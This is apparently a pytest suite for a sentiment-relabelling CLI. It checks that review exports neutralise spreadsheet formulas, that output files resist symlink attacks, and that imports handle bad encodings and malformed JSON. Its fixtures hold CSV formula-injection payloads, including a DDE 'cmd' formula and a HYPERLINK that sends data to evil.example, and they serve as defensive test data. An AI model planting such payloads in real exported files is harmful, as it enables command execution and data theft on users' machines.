"""Hostile review files and output paths, through the real command line.

* CSV formula injection: no text cell of `review export` starts as a spreadsheet formula, and
  `review import` undoes the guard exactly (ids that start with `=`/`-` or a quote included);
* outputs (`review export`, `report`) are written with a temp file + rename: a symlink at the
  target (or at the old fixed temp name) is replaced, never written through; a directory or a
  missing directory is a clear usage error (exit 2) and leaves nothing behind;
* review files in another encoding, with a BOM, malformed JSON, and Label Studio JSON of the
  wrong shape: named, with the task's number and id and what was expected; never a traceback;
* `kill -9` during `review import` leaves the old state or the new one, and the same command
  run again completes it without repeating history.
"""

from __future__ import annotations

import csv
import hashlib
import itertools
import json
import os
import sqlite3
import subprocess
import sys
from pathlib import Path

import pytest
import yaml
from store_checks import assert_clear_error
from typer.testing import CliRunner

from sentirefine.cli import app
from sentirefine.data.store import Store
from sentirefine.files.csvguard import FORMULA_PREFIXES, guard_cell, unguard_cell

runner = CliRunner()
HOSTILE = {  # id -> text: each is a formula, a formula-looking text, or a text's own leading quote
    "=1+1": "=cmd|' /C calc'!A0",
    "-5": '=HYPERLINK("http://evil.example/?leak="&A1,"click me")',
    "+7": "+1 and then some",
    "@x": "-2 stars",
    "'=q": "@SUM(A1:A9)",
    "''+q": "\tstarts with a tab",
    "'tis": "\rstarts with a carriage return",
    "plain": "'=quoted already",
    "p2": "''+two quotes",
    "p3": "'tis a fine film",
    "p4": "정말 재미있어요",
}


@pytest.fixture
def ws(tmp_path) -> tuple[Path, Path]:
    """A config and a workspace whose store holds the hostile rows, all frozen (so all exported)."""
    workspace = tmp_path / "ws"
    workspace.mkdir()
    with Store(workspace / "sentences.db", create=True) as store, store.transaction() as conn:
        conn.executemany(
            "INSERT INTO sentences (id, text, original_label, current_label, split, frozen) VALUES (?, ?, ?, ?, ?, 1)",
            [(id_, text, n % 2, n % 2, "train") for n, (id_, text) in enumerate(HOSTILE.items())])
        conn.execute("INSERT INTO sentences (id, text, original_label, current_label, split) "
                     "VALUES ('g0', 'gold', 1, 1, 'gold')")
    config = tmp_path / "config.yaml"
    config.write_text(yaml.safe_dump({"tracking": {"enabled": False}, "versioning": {"enabled": False},
                                      "models": {"order": ["lexicon"]}, "logging": {"format": "json"}}))
    return config, workspace


def invoke(ws: tuple[Path, Path], *args: str):
    config, workspace = ws
    return runner.invoke(app, ["-c", str(config), "--workspace", str(workspace), *args])


def digest(workspace: Path) -> str:
    conn = sqlite3.connect(f"file:{workspace / 'sentences.db'}?mode=ro", uri=True)
    try:
        h = hashlib.sha256()
        for table in ("sentences", "label_history", "review_queue"):
            h.update(repr(conn.execute(f"SELECT * FROM {table} ORDER BY 1").fetchall()).encode())
        return h.hexdigest()
    finally:
        conn.close()


def human_labels(workspace: Path) -> dict[str, int]:
    with sqlite3.connect(workspace / "sentences.db") as conn:
        return dict(conn.execute("SELECT id, current_label FROM sentences WHERE label_source = 'human'"))


# -- 12: CSV formula injection ----------------------------------------------------------------------------

def test_guard_is_reversible_and_leaves_no_formula():
    alphabet = ["'", "=", "-", "\t", "a", "+"]
    for n in range(5):
        for chars in itertools.product(alphabet, repeat=n):
            text = "".join(chars)
            guarded = guard_cell(text)
            assert unguard_cell(guarded) == text, repr(text)
            assert not guarded or guarded[0] not in FORMULA_PREFIXES, repr(guarded)
    assert guard_cell("'tis") == "'tis" and guard_cell("plain") == "plain"  # only what needs it changes


def test_csv_export_neutralises_formulas_and_import_round_trips_exactly(ws, tmp_path):
    out = tmp_path / "review.csv"
    result = invoke(ws, "review", "export", "-o", str(out))
    assert result.exit_code == 0, result.output
    with open(out, encoding="utf-8", newline="") as handle:
        rows = list(csv.DictReader(handle))
    assert len(rows) == len(HOSTILE)
    for row in rows:
        for column in ("id", "text", "reason"):
            assert not row[column] or row[column][0] not in FORMULA_PREFIXES, (column, row[column])
    assert {unguard_cell(r["id"]): unguard_cell(r["text"]) for r in rows} == HOSTILE  # nothing bent
    filled = tmp_path / "filled.csv"
    with open(filled, "w", encoding="utf-8", newline="") as handle:  # as a reviewer's editor saves it: raw
        writer = csv.DictWriter(handle, fieldnames=list(rows[0]))
        writer.writeheader()
        writer.writerows({**r, "human_label": 1 - int(r["current_label"])} for r in rows)
    result = invoke(ws, "review", "import", str(filled))
    assert result.exit_code == 0, result.output
    expected = {r["id"]: 1 - int(r["current_label"]) for r in rows}
    assert human_labels(ws[1]) == {unguard_cell(i): label for i, label in expected.items()}


# -- 13: outputs through symlinks, into directories -------------------------------------------------------

@pytest.mark.parametrize(("args", "name"), [(("review", "export", "--format", "csv"), "out.csv"),
                                            (("review", "export", "--format", "labelstudio"), "out.json"),
                                            (("report",), "out.html")])
def test_a_symlink_at_the_output_is_replaced_not_followed(ws, tmp_path, args, name):
    victim = tmp_path / "victim.txt"
    victim.write_text("precious", encoding="utf-8")
    out = tmp_path / name
    out.symlink_to(victim)
    old_tmp = out.with_suffix(".tmp")  # where the report used to stage itself, also planted
    old_tmp.symlink_to(victim)
    result = invoke(ws, *args, "-o" if args[0] == "review" else "--output", str(out))
    assert result.exit_code == 0, result.output
    assert victim.read_text(encoding="utf-8") == "precious"
    assert not out.is_symlink() and out.stat().st_size > 0
    assert sorted(p.name for p in tmp_path.iterdir() if p.name.startswith(".")) == []  # no temp file left


@pytest.mark.parametrize("command", [("review", "export", "-o"), ("report", "--output")])
def test_output_that_is_a_directory_or_in_a_missing_directory_is_a_usage_error(ws, tmp_path, command):
    folder = tmp_path / "outdir"
    folder.mkdir()
    assert_clear_error(invoke(ws, *command, str(folder)), 2, str(folder), "is a directory")
    assert sorted(p.name for p in tmp_path.iterdir()) == ["config.yaml", "outdir", "ws"]  # no outdir.tmp
    missing = tmp_path / "no-such-dir" / "out.csv"
    assert_clear_error(invoke(ws, *command, str(missing)), 2, str(missing.parent), "does not exist", "mkdir -p")
    assert not missing.parent.exists()


def test_csv_export_named_json_is_refused(ws, tmp_path):
    assert_clear_error(invoke(ws, "review", "export", "-o", str(tmp_path / "r.json")), 2, "--format labelstudio")


# -- 14: review files in other encodings, with a BOM, malformed, of the wrong shape -----------------------

def test_cp949_review_csv_is_named_with_an_iconv_hint(ws, tmp_path):
    path = tmp_path / "filled.csv"
    path.write_bytes("id,text,human_label\np4,정말 재미있어요,1\np3,최악의 영화,0\n".encode("cp949"))  # Excel's save
    before = digest(ws[1])
    assert_clear_error(invoke(ws, "review", "import", str(path)), 3, str(path), "looks like cp949", "iconv -f cp949")
    assert digest(ws[1]) == before


def test_an_id_with_undecodable_bytes_is_rejected_not_guessed(ws, tmp_path):
    path = tmp_path / "filled.csv"
    path.write_bytes(b"id,human_label\np4,1\np\xff3,0\n")
    result = invoke(ws, "review", "import", str(path))
    assert result.exit_code == 3 and "filled.csv:3: id is not valid UTF-8" in result.output, result.output
    assert human_labels(ws[1]) == {"p4": 1}


def test_cp949_label_studio_json_is_named(ws, tmp_path):
    path = tmp_path / "ls.json"
    path.write_bytes(json.dumps([{"sentirefine_id": "p4", "text": "정말 재미있어요", "sentiment": "positive"}],
                                ensure_ascii=False).encode("cp949"))
    assert_clear_error(invoke(ws, "review", "import", str(path)), 3, str(path), "looks like cp949")


@pytest.mark.parametrize("name", ["filled.csv", "ls.json"])
def test_review_files_with_a_bom_import(ws, tmp_path, name):
    path = tmp_path / name
    body = ("id,human_label\np4,1\n" if name.endswith(".csv")
            else json.dumps([{"sentirefine_id": "p4", "sentiment": "positive"}]))
    path.write_bytes(b"\xef\xbb\xbf" + body.encode("utf-8"))
    result = invoke(ws, "review", "import", str(path))
    assert result.exit_code == 0, result.output
    assert human_labels(ws[1]) == {"p4": 1}


def test_malformed_json_names_file_line_and_column(ws, tmp_path):
    path = tmp_path / "ls.json"
    path.write_text('[\n  {"sentirefine_id": "p4",\n   "sentiment": positive}\n]\n', encoding="utf-8")
    assert_clear_error(invoke(ws, "review", "import", str(path)), 3, str(path), "line 3 column 17")


BAD_TASKS = [  # (task, what the error must say)
    ({"id": 101, "sentirefine_id": "p2", "sentiment": []}, "task 1 (id 101): 'sentiment' should hold one choice"),
    ({"id": 102, "data": {"sentirefine_id": "p3"}, "annotations": {"result": []}},
     "task 2 (id 102): 'annotations' should be a list of annotations, found object"),
    ("just a string", "task 3: expected an object, found string"),
    ({"id": 104, "data": "p3"}, "task 4 (id 104): 'data' should be an object, found string"),
    ({"id": 105, "data": {"sentirefine_id": "p3"}, "annotations": [42]},
     "task 5 (id 105): annotation 1 should be an object, found number"),
    ({"id": 106, "data": {"sentirefine_id": "p3"}, "annotations": [{"result": {"value": {}}}]},
     "task 6 (id 106): annotation 1: 'result' should be a list, found object"),
    ({"id": 107, "data": {"sentirefine_id": "p3"}, "annotations": [{"result": ["positive"]}]},
     "task 7 (id 107): annotation 1: each result should be an object with a 'value' object"),
    ({"id": 108, "sentirefine_id": "p3", "sentiment": ["negative", "positive"]}, "found 2"),
    ({"id": 109, "sentirefine_id": {"nested": 1}, "sentiment": "positive"},
     "task 9 (id 109): 'sentirefine_id' should be a string, found object"),
    ({"id": 110, "sentirefine_id": "p3", "sentiment": {"choices": ["positive"]}}, "found object"),
]


def test_label_studio_json_of_the_wrong_shape_names_every_bad_task(ws, tmp_path):
    good = {"id": 200, "data": {"sentirefine_id": "p4"},
            "annotations": [{"was_cancelled": False, "result": [{"value": {"choices": ["positive"]}}]}]}
    path = tmp_path / "ls.json"
    path.write_text(json.dumps([task for task, _ in BAD_TASKS] + [good]), encoding="utf-8")
    before = digest(ws[1])
    strict = invoke(ws, "review", "import", str(path), "--strict")
    assert_clear_error(strict, 3, *[expected for _, expected in BAD_TASKS])
    assert digest(ws[1]) == before
    lenient = invoke(ws, "review", "import", str(path))
    assert lenient.exit_code == 3 and "Traceback" not in lenient.output, lenient.output
    assert f"rejected {len(BAD_TASKS)}" in lenient.output
    assert human_labels(ws[1]) == {"p4": 1}  # the well-formed task still counts


def test_label_studio_json_that_is_not_a_list_is_named(ws, tmp_path):
    path = tmp_path / "ls.json"
    path.write_text(json.dumps({"tasks": []}), encoding="utf-8")
    assert_clear_error(invoke(ws, "review", "import", str(path)), 3, str(path), "found a JSON object")


def test_review_file_that_is_missing_or_a_directory(ws, tmp_path):
    assert_clear_error(invoke(ws, "review", "import", str(tmp_path / "nope.csv")), 3, "not found")
    assert_clear_error(invoke(ws, "review", "import", str(tmp_path)), 3, "is a directory")


# -- kill -9 during review import ------------------------------------------------------------------------

def _cli(ws: tuple[Path, Path], *args: str, kill_at: str | None = None) -> subprocess.CompletedProcess:
    config, workspace = ws
    env = {k: v for k, v in os.environ.items() if k != "SENTIREFINE_KILL_AT"}
    if kill_at:
        env["SENTIREFINE_KILL_AT"] = kill_at
    return subprocess.run([sys.executable, "-m", "sentirefine", "-c", str(config), "--workspace", str(workspace),
                           *args], capture_output=True, text=True, timeout=300, env=env)


@pytest.mark.faults
def test_sigkill_during_review_import_leaves_old_or_new_state_and_the_rerun_completes(ws, tmp_path):
    filled = tmp_path / "filled.csv"
    filled.write_text("id,human_label\np2,1\np3,0\np4,1\n", encoding="utf-8")
    workspace = ws[1]
    before = digest(workspace)
    killed = _cli(ws, "review", "import", str(filled), kill_at="review_import_before_write")
    assert killed.returncode == -9, killed.stderr
    assert digest(workspace) == before  # nothing written
    killed = _cli(ws, "review", "import", str(filled), kill_at="review_import_after_write")
    assert killed.returncode == -9, killed.stderr
    assert human_labels(workspace) == {"p2": 1, "p3": 0, "p4": 1}  # all of it, in one transaction
    done = digest(workspace)
    rerun = _cli(ws, "review", "import", str(filled))
    assert rerun.returncode == 0, rerun.stderr
    assert "already applied before 3" in rerun.stdout
    assert digest(workspace) == done  # completing it repeats no history row
    with Store(workspace / "sentences.db") as store:
        assert store.history_is_consistent()


def test_mlflow_sample_of_corrections_is_guarded_too(tmp_path):
    """The corrections CSV logged to MLflow holds review texts as well: no cell may run as a formula."""
    from sentirefine.data.store import LabelChange
    from sentirefine.integrations.tracking import _corrected_sample

    with Store(tmp_path / "s.db", create=True) as store:
        store.conn.execute("INSERT INTO sentences (id, text, original_label, current_label, split) "
                           "VALUES ('=1+1', '=HYPERLINK(\"http://x\")', 0, 0, 'train')")
        store.apply_labels([LabelChange(1, 0, 1, 0.9)], iteration=1, source="ensemble")
        _corrected_sample(store, 1, 10, tmp_path / "sample.csv")
    with open(tmp_path / "sample.csv", encoding="utf-8", newline="") as handle:
        rows = list(csv.reader(handle))
    assert rows[1][:2] == ["'=1+1", "'=HYPERLINK(\"http://x\")"]
    assert not any(cell[:1] in FORMULA_PREFIXES for row in rows[1:] for cell in row[:2])
